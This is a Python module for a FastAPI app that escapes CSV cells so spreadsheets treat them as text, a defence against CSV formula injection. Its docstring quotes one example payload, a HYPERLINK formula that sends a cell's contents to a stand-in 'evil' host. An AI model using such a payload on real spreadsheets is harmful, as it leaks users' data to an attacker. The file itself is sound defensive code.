"""CSV that a spreadsheet opens as data, never as formulas (CSV injection).

A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read
as a formula by Excel, LibreOffice and Google Sheets: a team named
``=HYPERLINK("http://evil/?"&A1,"klik")`` would become a live link in the Dinas's
spreadsheet. OWASP's remedy is to prefix such a cell with a single quote, which the
spreadsheet shows as text. Numbers are left alone: a float or int cell is written as
it is, and so is a string that is a plain number (``-3.5``), so negative values stay
numbers.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import Any

from fastapi.responses import Response

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """``value``, with a leading ``'`` when it is a string a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(FORMULA_START) \
            and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose every cell goes through :func:`safe_cell`."""

    def __init__(self, buf: io.StringIO) -> None:
        self._w = csv.writer(buf, lineterminator="\n")

    def writerow(self, row: Iterable[Any]) -> None:
        self._w.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_response(rows: Iterable[Iterable[Any]], filename: str) -> Response:
    """A CSV download (every cell through :func:`safe_cell`), saved as ``filename``."""
    buf = io.StringIO()
    SafeWriter(buf).writerows(rows)
    return Response(buf.getvalue(), media_type="text/csv; charset=utf-8",
                    headers={"Content-Disposition": f'attachment; filename="{filename}"'})
